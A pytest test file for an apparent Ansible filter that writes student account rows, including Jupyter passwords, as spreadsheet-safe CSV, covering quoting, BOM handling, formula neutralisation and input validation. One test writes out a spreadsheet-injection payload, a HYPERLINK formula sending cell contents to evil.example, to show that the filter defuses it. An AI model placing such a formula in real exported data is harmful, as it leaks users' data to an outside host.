"""The CSV filter: what csv.reader (as a spreadsheet would) reads back from the text it writes."""

import csv
import io
import string

import pytest
from ansible.errors import AnsibleFilterError

from ansible_collections.coursevm.openstack.plugins.filter import spreadsheet_csv as sc

COLUMNS = ["student", "name", "jupyter_password"]
# Every printable ASCII character but the line ends, and a few that are not ASCII.
EVERY_CHARACTER = "".join(c for c in string.printable if c not in "\r\n\x0b\x0c") + "éß€漢字"


def read_back(text):
    """Rows as csv.reader gives them from a UTF-8 file (BOM and all) opened the documented way."""
    data = text.encode("utf-8")
    with io.TextIOWrapper(io.BytesIO(data), encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def write(rows, **options):
    return sc.spreadsheet_csv(rows, COLUMNS, verbatim=["jupyter_password"], **options)


@pytest.mark.parametrize("name", ["Hopper, Grace", 'Ada "the Countess" Byron', "Zoë Ørsted-Łukasiewicz",
                                  "O'Brien; Seán", "Nguyễn Văn An", "", "  spaced  "])
@pytest.mark.parametrize("password", ["a,b;c\"d'e", '"""', ";,;,", EVERY_CHARACTER, "ends with a quote\""])
def test_awkward_names_and_passwords_round_trip(name, password):
    rows = read_back(write([{"student": "ab12", "name": name, "jupyter_password": password}]))
    assert rows == [COLUMNS, ["ab12", name, password]]


def test_every_field_is_quoted_and_quotes_are_doubled():
    text = write([{"student": "ab12", "name": 'Say "hi"', "jupyter_password": "x"}], bom=False)
    header, row = text.split("\r\n")[:2]
    assert header == '"student","name","jupyter_password"'
    assert row == '"ab12","Say ""hi""","x"'
    assert text.endswith("\r\n")


def test_utf8_with_a_byte_order_mark_by_default():
    text = write([{"student": "ab12", "name": "Zoë", "jupyter_password": "x"}])
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf\"student\"")
    assert not write([], bom=False).startswith("\ufeff")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_in_a_text_field_is_neutralised(start):
    name = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = read_back(write([{"student": "ab12", "name": name, "jupyter_password": "x"}]))
    assert rows[1][1] == "'" + name


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_verbatim_column_is_never_changed(start):
    password = start + "1+1,\"x\""
    rows = read_back(write([{"student": "ab12", "name": password, "jupyter_password": password}]))
    assert rows[1][2] == password
    assert rows[1][1] == "'" + password  # the same text in a column that is not verbatim


def test_a_formula_character_inside_a_field_is_left_alone():
    rows = read_back(write([{"student": "ab12", "name": "Smith-Jones = A+B @ uni", "jupyter_password": "x"}]))
    assert rows[1][1] == "Smith-Jones = A+B @ uni"


def test_missing_and_null_values_are_empty_cells_and_numbers_are_text():
    rows = read_back(write([{"student": 12, "name": None}]))
    assert rows == [COLUMNS, ["12", "", ""]]


def test_no_rows_gives_the_header_alone():
    assert read_back(write([])) == [COLUMNS]


def test_rows_keep_their_order_and_extra_keys_are_ignored():
    rows = [{"student": s, "name": s.upper(), "jupyter_password": "p", "host": "h"} for s in ("b2", "a1", "c3")]
    assert [r[0] for r in read_back(write(rows))[1:]] == ["b2", "a1", "c3"]


@pytest.mark.parametrize("rows, columns, verbatim", [
    ("not a list", COLUMNS, []),
    ({"student": "ab12"}, COLUMNS, []),
    ([["ab12"]], COLUMNS, []),
    ([{"student": ["a", "list"]}], COLUMNS, []),
    ([], [], []),
    ([], "student", []),
    ([], COLUMNS, ["unix_password"]),
])
def test_bad_input_is_refused(rows, columns, verbatim):
    with pytest.raises(AnsibleFilterError):
        sc.spreadsheet_csv(rows, columns, verbatim=verbatim)


def test_the_filter_is_registered():
    assert sc.FilterModule().filters()["spreadsheet_csv"] is sc.spreadsheet_csv
